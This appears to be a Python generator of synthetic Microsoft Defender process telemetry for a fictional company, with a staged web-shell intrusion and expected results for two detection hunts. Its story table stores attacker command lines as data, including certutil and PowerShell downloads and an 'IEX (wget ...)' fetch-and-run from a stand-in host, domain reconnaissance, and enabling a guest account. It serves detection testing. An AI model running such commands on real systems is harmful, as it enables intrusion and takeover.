"""Writes the sample telemetry: python samples/generate.py [FOLDER].

A week of an invented company, as Defender's Streaming API would deliver it, with an intrusion in it. Nothing is random:
what varies (process ids, seconds, delays) is a digest of what it belongs to, so every run writes the same bytes.

Reads from top to bottom: who there is, what they do every day, what happened, what the delivery got wrong, and then
how that becomes files. `hits` is written by hand, from reading the two hunts, and ends up in `expected.json`.
"""

from __future__ import annotations

import hashlib
import json
import sys
from collections import Counter, defaultdict
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field, replace
from datetime import UTC, date, datetime, time, timedelta
from itertools import chain
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent

FIRST_DAY = date(2026, 3, 2)
LAST_DAY = date(2026, 3, 9)
AS_OF = "2026-03-10T00:00:00Z"
"""The hunts look back seven days from here: `Timestamp > 2026-03-03T00:00:00Z`."""

H1 = "7fdc5f4a-700d-4713-abfc-181f02968726"
H2 = "1a9dfc1d-6dd2-42e5-81ef-fb90f3d96239"
TENANT = "3b0a7c44-5d5e-4c37-9f0e-2a6b1f4d8e90"
CONTAINER = "insights-logs-advancedhunting-deviceprocessevents"
DOMAIN = "fjordbooks.example"

# --- Who there is ---------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Device:
    name: str
    group: str
    routine: str
    user: str

    @property
    def fqdn(self) -> str:
        return f"{self.name}.{DOMAIN}"

    @property
    def id(self) -> str:
        return hashlib.sha1(self.fqdn.encode()).hexdigest()

    @property
    def is_mac(self) -> bool:
        return self.routine == "mac"


WS_ANA = Device("ws-ana", "Workstations", "workstation", "ana")
WS_BOAZ = Device("ws-boaz", "Workstations", "workstation", "boaz")
WS_CHIKA = Device("ws-chika", "Workstations", "workstation", "chika")
MAC_DIEGO = Device("mac-diego", "Workstations", "mac", "diego")
IIS_1 = Device("web-iis-01", "Servers", "iis", "svc-shop")
IIS_2 = Device("web-iis-02", "Servers", "iis", "svc-shop")
APP = Device("app-01", "Servers", "app", "svc-catalog")
BUILD = Device("build-01", "Servers", "build", "svc-build")
DEVICES = (WS_ANA, WS_BOAZ, WS_CHIKA, MAC_DIEGO, IIS_1, IIS_2, APP, BUILD)

SYSTEM = "system"
"""The account that services and scheduled tasks of Windows run as."""

MICROSOFT = "Microsoft Corporation"
WINDOWS = "Microsoft® Windows® Operating System"
SYSTEM32 = "C:\\Windows\\System32"


@dataclass(frozen=True)
class Image:
    """A program on disk: its folder, what its version resource says, and how it is usually started."""

    folder: str
    company: str | None = MICROSOFT
    product: str | None = WINDOWS
    description: str | None = None
    command: str | None = None

    def path(self, name: str) -> str:
        return f"{self.folder}{'/' if self.folder.startswith('/') else chr(92)}{name}"


APACHE = Image(
    "C:\\Apache24\\bin",
    "Apache Software Foundation",
    "Apache HTTP Server",
    command='"C:\\Apache24\\bin\\httpd.exe" -k runservice',
)
CHROME = Image("C:\\Program Files\\Google\\Chrome\\Application", "Google LLC", "Google Chrome", "Google Chrome")
OFFICE = Image("C:\\Program Files\\Microsoft Office\\root\\Office16", product="Microsoft Office")
FRAMEWORK = Image("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319", product="Microsoft® .NET Framework")
DEFENDER = Image("C:\\Program Files\\Windows Defender", description="Microsoft Malware Protection")
JDK = Image(
    "C:\\Program Files\\Java\\jdk-21\\bin", "Eclipse Adoptium", "OpenJDK Platform 21", "OpenJDK Platform binary"
)
GIT = Image("C:\\Program Files\\Git\\cmd", "The Git Development Community", "Git", "Git for Windows")
MACOS = Image("/usr/bin", None, None)

IMAGES = {
    "catalog-launcher.exe": Image("C:\\Catalog\\apache-tomcat", "Fjordbooks", "Catalog", "Starts the catalog"),
    "chrome.exe": CHROME,
    "csc.exe": replace(FRAMEWORK, description="Visual C# Command Line Compiler"),
    "cvtres.exe": replace(FRAMEWORK, description="Microsoft® Resource File To COFF Object Conversion Utility"),
    "explorer.exe": Image("C:\\Windows", description="Windows Explorer"),
    "git": MACOS,
    "git.exe": GIT,
    "Google Chrome": Image("/Applications/Google Chrome.app/Contents/MacOS", None, None),
    "httpd.exe": APACHE,
    "java.exe": replace(JDK, command='"C:\\Program Files\\Java\\jdk-21\\bin\\java.exe" -jar C:\\build\\agent.jar'),
    "launchd": Image("/sbin", None, None, command="/sbin/launchd"),
    "mdworker_shared": Image(
        "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Support", None, None
    ),
    "MpCmdRun.exe": DEFENDER,
    "MsMpEng.exe": DEFENDER,
    "OUTLOOK.EXE": replace(OFFICE, description="Microsoft Outlook"),
    "powershell.exe": Image(f"{SYSTEM32}\\WindowsPowerShell\\v1.0", description="Windows PowerShell"),
    "python3": MACOS,
    "rotatelogs.exe": APACHE,
    "svchost.exe": Image(
        SYSTEM32,
        description="Host Process for Windows Services",
        command=f"{SYSTEM32}\\svchost.exe -k netsvcs -p -s Schedule",
    ),
    "tomcat9.exe": Image(
        "C:\\Tomcat9\\bin",
        "Apache Software Foundation",
        "Apache Commons Daemon Service Runner",
        "Catalog service",
        '"C:\\Tomcat9\\bin\\tomcat9.exe" //RS//Catalog',
    ),
    "w3wp.exe": Image(
        f"{SYSTEM32}\\inetsrv",
        product="Internet Information Services",
        description="IIS Worker Process",
        command=f'{SYSTEM32}\\inetsrv\\w3wp.exe -ap "ShopPool" -v "v4.0" -l "webengine4.dll"',
    ),
    "WINWORD.EXE": replace(OFFICE, description="Microsoft Word"),
    "zsh": Image("/bin", None, None, command="-zsh"),
}
"""Programs that do not lie in System32. Looked up without regard to case, as Windows does."""

_IMAGES = {name.casefold(): image for name, image in IMAGES.items()}


def image(name: str) -> Image:
    return _IMAGES.get(name.casefold(), Image(SYSTEM32))


# --- What they do every day -----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Event:
    """A process start: grandparent > parent > program. `hits`: the hunts that find it if it is in their window."""

    at: str
    device: Device
    lineage: str
    command: str
    # Digests are taken of an event's text, and a better explanation must not change the files.
    hits: str = field(default="", repr=False)
    why: str = field(default="", repr=False)
    account: str = ""
    exported: str = ""
    extra: tuple[tuple[str, Any], ...] = ()

    @property
    def programs(self) -> tuple[str, str, str]:
        grandparent, parent, program = self.lineage.split(" > ")
        return grandparent, parent, program

    @property
    def moment(self) -> datetime:
        """To the second; what follows the seconds is `fraction`."""
        return datetime.fromisoformat(self.at[:19]).replace(tzinfo=UTC)

    @property
    def fraction(self) -> str:
        """Seven digits, as the sensor writes them, which is one more than Spark keeps."""
        return self.at[20:] if len(self.at) > 19 else f"{number(self, 'fraction') % 10**7:07d}"

    @property
    def timestamp(self) -> str:
        return f"{self.moment:%Y-%m-%dT%H:%M:%S}.{self.fraction}Z"

    @property
    def in_window(self) -> bool:
        return "2026-03-03T00:00:00.0000000Z" < self.timestamp <= "2026-03-10T00:00:00.0000000Z"


@dataclass(frozen=True)
class Habit:
    """Something that a kind of machine does at about `hour` (UTC) on every day, or on working days only."""

    hour: int
    lineage: str
    command: str
    as_system: bool = False
    every_day: bool = False


AUTOMATIC = [
    Habit(
        2,
        "services.exe > MsMpEng.exe > MpCmdRun.exe",
        '"MpCmdRun.exe" Scan -ScheduleJob -RestrictPrivileges',
        True,
        True,
    ),
    Habit(4, "services.exe > svchost.exe > taskhostw.exe", "taskhostw.exe SystemTask", True, True),
    Habit(11, "wininit.exe > services.exe > svchost.exe", "svchost.exe -k wsappx -p -s ClipSVC", True, True),
]

OFFICE_WORK = [
    Habit(
        7,
        "userinit.exe > explorer.exe > OUTLOOK.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
    ),
    Habit(8, "userinit.exe > explorer.exe > chrome.exe", f'"{CHROME.folder}\\chrome.exe" --profile-directory=Default'),
    Habit(8, "explorer.exe > chrome.exe > chrome.exe", f'"{CHROME.folder}\\chrome.exe" --type=renderer --lang=en-GB'),
    Habit(
        10, "explorer.exe > OUTLOOK.EXE > WINWORD.EXE", '"WINWORD.EXE" /n "C:\\Users\\Public\\Documents\\minutes.docx"'
    ),
    Habit(13, "services.exe > svchost.exe > RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"),
]

ROUTINES: dict[str, list[Habit]] = {
    "workstation": [*AUTOMATIC, *OFFICE_WORK],
    "iis": [
        *AUTOMATIC,
        Habit(1, "services.exe > svchost.exe > w3wp.exe", image("w3wp.exe").command or "", every_day=True),
        Habit(
            5,
            "svchost.exe > w3wp.exe > csc.exe",
            '"csc.exe" /noconfig /fullpaths @"C:\\Windows\\Temp\\shop.cmdline"',
            every_day=True,
        ),
        Habit(5, "w3wp.exe > csc.exe > cvtres.exe", "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86", every_day=True),
        Habit(
            22,
            "services.exe > svchost.exe > powershell.exe",
            "powershell.exe -NoProfile -File C:\\Ops\\Backup-Site.ps1",
            True,
            True,
        ),
    ],
    "app": [
        *AUTOMATIC,
        Habit(
            1,
            "wininit.exe > services.exe > tomcat9.exe",
            '"C:\\Tomcat9\\bin\\tomcat9.exe" //RS//Catalog',
            every_day=True,
        ),
        Habit(
            1, "services.exe > httpd.exe > httpd.exe", '"C:\\Apache24\\bin\\httpd.exe" -d C:/Apache24', every_day=True
        ),
        Habit(
            1,
            "services.exe > httpd.exe > rotatelogs.exe",
            "rotatelogs.exe C:/Apache24/logs/access.%Y-%m-%d.log 86400",
            every_day=True,
        ),
    ],
    "build": [
        *AUTOMATIC,
        Habit(6, "services.exe > java.exe > git.exe", "git.exe fetch --prune origin"),
        Habit(6, "services.exe > java.exe > cmd.exe", "cmd.exe /c gradlew.bat --no-daemon clean build"),
        Habit(9, "services.exe > java.exe > git.exe", "git.exe checkout --force main"),
        Habit(15, "services.exe > java.exe > cmd.exe", "cmd.exe /c gradlew.bat --no-daemon integrationTest"),
    ],
    "mac": [
        Habit(
            6,
            "kernel_task > launchd > mdworker_shared",
            "mdworker_shared -s mdworker -c MDSImporterWorker",
            every_day=True,
        ),
        Habit(7, "kernel_task > launchd > Google Chrome", "Google Chrome --profile-directory=Default"),
        Habit(9, "Terminal > zsh > git", "git pull --rebase"),
        Habit(12, "Terminal > zsh > python3", "python3 -m http.server 8000"),
        Habit(16, "Terminal > zsh > git", 'git commit -m "Shorten the timeout"'),
    ],
}


def routine() -> Iterator[Event]:
    for offset in range((LAST_DAY - FIRST_DAY).days + 1):
        day = FIRST_DAY + timedelta(days=offset)
        for device in DEVICES:
            for habit in ROUTINES[device.routine]:
                if habit.every_day or day.weekday() < 5:
                    seconds = number(day, device.name, habit.lineage, habit.command) % 3600
                    moment = datetime(day.year, day.month, day.day, habit.hour) + timedelta(seconds=seconds)
                    account = SYSTEM if habit.as_system else device.user
                    yield Event(moment.isoformat(), device, habit.lineage, habit.command, account=account)


# --- What happened --------------------------------------------------------------------------------------------------

# A table of what happened is easier to read with two lines a row.
# fmt: off
STORY = [
    # The company's own: the web servers start shells for good reasons too. H2 finds them; an exclusion is for these.
    *(
        Event(f"2026-03-{day:02d}T03:00:04", APP, "services.exe > httpd.exe > cmd.exe",
              'cmd.exe /c "C:\\Apache24\\bin\\archive-logs.cmd"', "H2",
              why="seven nights of archiving logs are one row")
        for day in range(2, 10)
    ),
    Event("2026-03-04T06:30:11", IIS_2, "svchost.exe > w3wp.exe > cscript.exe",
          "cscript.exe //nologo C:\\inetpub\\scripts\\warmup.vbs", "H2"),
    Event("2026-03-04T09:12:45", IIS_2, "svchost.exe > w3wp.exe > cmd.exe",
          "cmd.exe /c C:\\Jobs\\shipping\\labels.cmd --timeouts 30", "H2",
          why="H1: 'shipping' and 'timeouts' are words of their own, and `has` looks for whole words"),
    Event("2026-03-04T09:13:02", IIS_2, "svchost.exe > w3wp.exe > cmd.exe",
          "cmd.exe /c C:\\Jobs\\mapping\\refresh.cmd", "H2", why="H1: 'ping' inside 'mapping' is not a word"),
    Event("2026-03-06T05:00:31", APP, "services.exe > Tomcat9.exe > cmd.exe",
          "cmd.exe /c timeout /t 20 & C:\\Tomcat9\\bin\\warmup.cmd", "H1",
          why="H1: startswith takes any case; H2 does not know Tomcat"),

    # Administrators at work: the same commands, from no web server.
    Event("2026-03-03T08:41:20", WS_BOAZ, "userinit.exe > explorer.exe > cmd.exe", '"C:\\Windows\\System32\\cmd.exe"'),
    Event("2026-03-03T08:41:52", WS_BOAZ, "explorer.exe > cmd.exe > ipconfig.exe", "ipconfig /all"),
    Event("2026-03-03T08:42:10", WS_BOAZ, "explorer.exe > cmd.exe > PING.EXE", "ping app-01"),
    Event("2026-03-05T13:20:37", WS_ANA, "userinit.exe > explorer.exe > powershell.exe",
          'powershell.exe -NoExit -Command "systeminfo | more"', why="no web server in its lineage"),
    Event("2026-03-05T14:02:18", BUILD, "services.exe > java.exe > cmd.exe",
          "cmd.exe /c whoami", why="Java, but no web server: neither hunt names java.exe"),
    Event("2026-03-06T07:15:00", APP, "services.exe > catalog-launcher.exe > cmd.exe",
          "cmd.exe /c ipconfig /flushdns", why="its folder says tomcat, its name does not begin with it"),
    Event("2026-03-06T10:26:40", MAC_DIEGO, "Terminal > zsh > whoami", "whoami"),

    # Monday night: someone finds the upload page of the shop on web-iis-01.
    Event("2026-03-02T22:15:09", IIS_1, "svchost.exe > w3wp.exe > cmd.exe",
          "cmd.exe /c whoami", "H1 H2", why="more than seven days before the as-of"),
    Event("2026-03-03T00:00:00.0000000", IIS_1, "svchost.exe > w3wp.exe > cmd.exe",
          "cmd.exe /c ipconfig", "H1 H2", why="exactly seven days before: `>` leaves it out"),

    # Thursday: the web shell is used.
    Event("2026-03-05T02:11:07", IIS_1, "svchost.exe > w3wp.exe > cmd.exe",
          "cmd.exe /c whoami /all", "H1 H2", why="delivered twice, found once"),
    Event("2026-03-05T02:11:08", IIS_1, "w3wp.exe > cmd.exe > whoami.exe",
          "whoami  /all", why="H1 asks for cmd.exe or powershell.exe, H2 for a web server as parent"),
    Event("2026-03-05T02:12:40", IIS_1, "svchost.exe > w3wp.exe > CMD.EXE",
          '"C:\\Windows\\System32\\CMD.EXE" /c ipconfig /all', "H1 H2", why="in~ takes any case"),
    Event("2026-03-05T02:13:55", IIS_1, "svchost.exe > w3wp.exe > cmd.exe",
          "cmd.exe /c systeminfo > %TEMP%\\s.txt", "H1 H2"),
    Event("2026-03-05T02:14:21", IIS_1, "svchost.exe > w3wp.exe > cmd.exe",
          "cmd.exe /c type %Temp%\\s.txt", "H1 H2", why="H1: contains takes any case, and needs no whole word"),
    Event("2026-03-05T02:16:03", IIS_1, "svchost.exe > w3wp.exe > cmd.exe",
          "cmd.exe /c net user /domain", "H2", why="H1 has no word for it"),
    Event("2026-03-05T02:16:48", IIS_1, "svchost.exe > w3wp.exe > net.exe", "net localgroup administrators", "H2"),
    Event("2026-03-05T02:21:30", IIS_1, "svchost.exe > w3wp.exe > powershell.exe",
          "powershell.exe -nop -c certutil -urlcache -split -f http://203.0.113.24/a.txt C:\\Windows\\Temp\\a.exe",
          "H1 H2"),
    Event("2026-03-05T02:24:12", IIS_1, "w3wp.exe > cmd.exe > powershell.exe",
          "powershell.exe -c wget http://203.0.113.24/b.ps1 -OutFile b.ps1", "H1",
          why="H1: the grandparent is the web server; H2 looks at the parent only"),
    Event("2026-03-05T02:50:17", IIS_1, "svchost.exe > w3wp.exe > net.exe",
          'net group "Domain Admins" /domain', "H2", why="delivered two days late", exported="2026-03-07T09:12:33"),
    Event("2026-03-06T01:05:13", IIS_1, "svchost.exe > w3wp.exe > cmd.exe", "cmd.exe /c WHOAMI /groups", "H1 H2"),
    Event("2026-03-07T01:05:44", IIS_1, "svchost.exe > w3wp.exe > cmd.exe",
          "cmd.exe /c WHOAMI /groups", "H1 H2", why="the same again: H1 has it once in its set, H2 counts two"),

    # Friday: the second web server, from a worker process whose name is spelt in capitals.
    Event("2026-03-06T02:33:19", IIS_2, "svchost.exe > W3WP.EXE > cmd.exe",
          "cmd.exe /c whoami", "H2", why="H1: `in` is case-sensitive and w3wp.exe is lower case there; H2: in~ is not"),

    # The weekend: on to the catalog.
    Event("2026-03-07T23:40:02", APP, "services.exe > tomcat9.exe > cmd.exe", "cmd.exe /c ping -n 3 10.20.0.5", "H1"),
    Event("2026-03-07T23:44:29", APP, "tomcat9.exe > cmd.exe > powershell.exe",
          "powershell.exe -c systeminfo | Out-File C:\\ProgramData\\s.txt", "H1",
          why="H1: the grandparent's name begins with tomcat"),
    Event("2026-03-08T00:02:51", APP, "services.exe > httpd.exe > PowerShell.exe",
          "PowerShell.exe -NoP -C IEX (wget http://203.0.113.24/p)", "H1 H2"),
    Event("2026-03-08T00:05:36", APP, "services.exe > HTTPD.EXE > net1.exe", "net1 user guest /active:yes", "H2"),

    # After the as-of: a run as of then must not know it.
    Event("2026-03-10T00:20:15", IIS_1, "svchost.exe > w3wp.exe > cmd.exe",
          "cmd.exe /c whoami /priv", "H1 H2", why="after the as-of"),
    Event("2026-03-10T00:31:00", WS_ANA, "services.exe > MsMpEng.exe > MpCmdRun.exe",
          '"MpCmdRun.exe" SignatureUpdate -ScheduleJob', account=SYSTEM,
          extra=(("InitiatingProcessCloudVerdict", "Clean"),), why="has a property that no column is known for"),
]
# fmt: on

# --- What the delivery got wrong ------------------------------------------------------------------------------------

REDELIVERED = {  # at and command line of the event -> when it was exported once more
    ("2026-03-05T02:11:07", "cmd.exe /c whoami /all"): "2026-03-05T03:02:10",
    ("2026-03-03T08:42:10", "ping app-01"): "2026-03-03T09:31:44",
}

NO_DEVICE = Event(
    "2026-03-08T11:20:45",
    BUILD,
    "services.exe > java.exe > cmd.exe",
    "cmd.exe /c gradlew.bat --stop",
    why="without DeviceId",
)

CUT_OFF = ("2026-03-06T08:41:18", f'{{"time":"2026-03-06T08:41:18.1140000Z","tenantId":"{TENANT}","operationName":"Pub')
"""A line that is no JSON, because its writer was cut off."""

# --- How that becomes files -----------------------------------------------------------------------------------------


def number(*parts: object) -> int:
    """A number that looks random and is the same on every run."""
    return int.from_bytes(hashlib.sha256(repr(parts).encode()).digest()[:6], "big")


def record(event: Event, exported: datetime, device_id: str | None) -> dict[str, Any]:
    """One line of a blob: the envelope, and the 66 columns of advanced hunting with those that streaming adds."""
    received = event.moment + timedelta(seconds=3 + number(event, "received") % 40)
    return {
        "time": f"{exported:%Y-%m-%dT%H:%M:%S}.{number(event, 'time') % 10**7:07d}Z",
        "tenantId": TENANT,
        "operationName": "Publish",
        "category": "AdvancedHunting-DeviceProcessEvents",
        "properties": properties(event, device_id) | dict(event.extra),
        "Tenant": "DefaultTenant",
        "_TimeReceivedBySvc": f"{received:%Y-%m-%dT%H:%M:%S}.{number(event, 'service') % 10**7:07d}Z",
    }


def properties(event: Event, device_id: str | None) -> dict[str, Any]:
    device, (grandparent, parent, program) = event.device, event.programs
    account = event.account or device.user
    columns = {
        "Timestamp": event.timestamp,
        "DeviceId": device_id,
        "DeviceName": device.fqdn,
        "ActionType": "ProcessCreated",
        **file_columns("", device, program),
        "ProcessId": process_id(event, program),
        "ProcessCommandLine": event.command,
        "ProcessIntegrityLevel": integrity(device, account),
        "ProcessTokenElevation": "None" if device.is_mac else "TokenElevationTypeDefault",
        "ProcessCreationTime": event.timestamp,
        **account_columns("", device, account),
        "LogonId": logon_id(device, account),
        **account_columns("InitiatingProcess", device, account),
        "InitiatingProcessLogonId": logon_id(device, account),
        "InitiatingProcessIntegrityLevel": integrity(device, account),
        "InitiatingProcessTokenElevation": "None" if device.is_mac else "TokenElevationTypeDefault",
        **file_columns("InitiatingProcess", device, parent),
        "InitiatingProcessId": process_id(event, parent),
        "InitiatingProcessCommandLine": image(parent).command or parent,
        "InitiatingProcessCreationTime": started(event, parent, 1),
        "InitiatingProcessParentId": process_id(event, grandparent),
        "InitiatingProcessParentFileName": grandparent,
        "InitiatingProcessParentCreationTime": started(event, grandparent, 2),
        "InitiatingProcessSignerType": "OsVendor" if image(parent).company in {MICROSOFT, None} else "Unknown",
        "InitiatingProcessSignatureStatus": "Valid",
        "ReportId": number(device.name, event.timestamp, event.command) % 100_000,
        "AppGuardContainerId": "",
        "AdditionalFields": "",
        "InitiatingProcessSessionId": session_id(account),
        "IsInitiatingProcessRemoteSession": False,
        "InitiatingProcessRemoteSessionDeviceName": None,
        "InitiatingProcessRemoteSessionIP": None,
        "CreatedProcessSessionId": session_id(account),
        "IsProcessRemoteSession": False,
        "ProcessRemoteSessionDeviceName": None,
        "ProcessRemoteSessionIP": None,
    }
    assert len(columns) == 66, len(columns)  # or a slip of the pen above
    return columns | {
        "MachineGroup": device.group,
        "ProcessUniqueId": "0" if device.is_mac else str(number(event, "unique")),
        "InitiatingProcessUniqueId": "0" if device.is_mac else str(number(device, parent, "unique")),
    }


def file_columns(prefix: str, device: Device, name: str) -> dict[str, Any]:
    """What is known about a program on disk. The sensor writes a parent's path in lower case."""
    found = image(name)
    path = found.path(name)
    version = None if device.is_mac else "10.0.20348.1" if found.company == MICROSOFT else "1.0.0.0"
    base = {
        "FileName": name,
        "FolderPath": path.lower() if prefix else path,
        "SHA1": hashlib.sha1(path.lower().encode()).hexdigest(),
        "SHA256": hashlib.sha256(path.lower().encode()).hexdigest(),
        "MD5": hashlib.md5(path.lower().encode()).hexdigest(),
        "FileSize": 20_000 + number(path.lower()) % 900_000,
    }
    resource = {
        "CompanyName": found.company,
        "ProductName": found.product,
        "ProductVersion": version,
        "InternalFileName": version and name.rpartition(".")[0].lower(),
        "OriginalFileName": version and name.lower(),
        "FileDescription": found.description,
    }
    start = prefix or "Process"
    return {prefix + key: value for key, value in base.items()} | {
        f"{start}VersionInfo{key}": value for key, value in resource.items()
    }


def account_columns(prefix: str, device: Device, account: str) -> dict[str, Any]:
    if account == SYSTEM:
        domain, sid, upn, object_id = "nt authority", "S-1-5-18", None, None
    elif device.is_mac:
        domain, sid, upn, object_id = device.name, None, None, None
    else:
        domain, sid = "fjordbooks", f"S-1-5-21-1004336348-1177238915-682003330-{1100 + number(account) % 900}"
        upn = None if account.startswith("svc-") else f"{account}@{DOMAIN}"
        object_id = upn and "{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}".format(
            *(number(account, i) % 16**n for i, n in enumerate((8, 4, 3, 3, 12)))
        )
    values = {"Domain": domain, "Name": account, "Sid": sid, "Upn": upn, "ObjectId": object_id}
    return {f"{prefix}Account{key}": value for key, value in values.items()}


def integrity(device: Device, account: str) -> str | None:
    if device.is_mac:
        return None
    return "System" if account == SYSTEM else "High" if account.startswith("svc-") else "Medium"


def logon_id(device: Device, account: str) -> int:
    return 999 if account == SYSTEM else number(device, account, "logon") % 10_000_000


def session_id(account: str) -> int:
    return 0 if account == SYSTEM or account.startswith("svc-") else 1


def process_id(event: Event, name: str) -> int:
    """The process itself is new; its ancestors live for the day."""
    owner: object = event if name == event.programs[2] else event.moment.date()
    return 4 * (100 + number(event.device.name, name, owner) % 4000)


def started(event: Event, name: str, generation: int) -> str:
    """An ancestor has been running since the day before, or, a generation up, since the day before that."""
    midnight = datetime.combine(event.moment, time.min, UTC)
    moment = midnight - timedelta(days=generation - 1, seconds=1 + number(event.device.name, name, midnight) % 80_000)
    return f"{moment:%Y-%m-%dT%H:%M:%S}.{number(name, moment) % 10**7:07d}Z"


def exported_at(event: Event) -> datetime:
    """The service writes an event between a minute and 38 minutes after it happened, so often into a later hour."""
    if event.exported:
        return datetime.fromisoformat(event.exported).replace(tzinfo=UTC)
    return event.moment + timedelta(seconds=84 + number(event, "export") % 2197)


def deliveries() -> Iterator[tuple[datetime, str]]:
    """When each line was written, and the line."""

    def line(event: Event, exported: datetime, device_id: str | None) -> tuple[datetime, str]:
        return exported, json.dumps(record(event, exported, device_id), ensure_ascii=False, separators=(",", ":"))

    for event in all_events():
        yield line(event, exported_at(event), event.device.id)
        again = REDELIVERED.get((event.at, event.command))
        if again:
            yield line(event, datetime.fromisoformat(again).replace(tzinfo=UTC), event.device.id)
    yield line(NO_DEVICE, exported_at(NO_DEVICE), None)
    yield datetime.fromisoformat(CUT_OFF[0]).replace(tzinfo=UTC), CUT_OFF[1]


def all_events() -> Iterable[Event]:
    return chain(routine(), STORY)


def expected() -> dict[str, Any]:
    """What landing must count and what the hunts must find, from the flags that were set by hand."""
    events = list(all_events())
    found = [event for event in events if event.in_window]
    commands: dict[Device, set[str]] = defaultdict(set)
    for event in found:
        if "H1" in event.hits:
            commands[event.device].add(event.command)
    instances = Counter(
        (event.device, image(event.programs[2]).path(event.programs[2]), event.command)
        for event in found
        if "H2" in event.hits
    )
    return {
        "as_of": AS_OF,
        "landing": {
            "delivered": len(events) + len(REDELIVERED) + 2,
            "events": len(events),
            "duplicates": len(REDELIVERED),
            "quarantined": 2,
        },
        "hunts": {
            H1: [
                {"DeviceId": device.id, "DeviceName": device.fqdn, "set_ProcessCommandLine": sorted(lines)}
                for device, lines in sorted(commands.items(), key=lambda item: item[0].id)
            ],
            H2: sorted(
                (
                    {
                        "ProcessCommandLine": line,
                        "FolderPath": path,
                        "DeviceName": device.fqdn,
                        "DeviceId": device.id,
                        "instances": n,
                    }
                    for (device, path, line), n in instances.items()
                ),
                key=lambda row: (row["instances"], row["DeviceName"], row["FolderPath"], row["ProcessCommandLine"]),
            ),
        },
    }


def write(folder: Path) -> None:
    """Blobs by the hour of their export, lines in the order of their export, each ended by CR LF as Azure does."""
    blobs: dict[str, list[tuple[datetime, str]]] = defaultdict(list)
    for exported, line in deliveries():
        blobs[f"{exported:y=%Y/m=%m/d=%d/h=%H/m=00/PT1H.json}"].append((exported, line))
    root = folder / "streaming" / CONTAINER / f"tenantId={TENANT}"
    for name, lines in blobs.items():
        blob = root / name
        blob.parent.mkdir(parents=True, exist_ok=True)
        blob.write_bytes(b"".join(f"{line}\r\n".encode() for _, line in sorted(lines)))
    (folder / "expected.json").write_text(json.dumps(expected(), indent=2) + "\n", encoding="utf-8")


def main() -> None:
    folder = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE
    write(folder)
    print(f"{expected()['landing']} in {folder}")


if __name__ == "__main__":
    main()
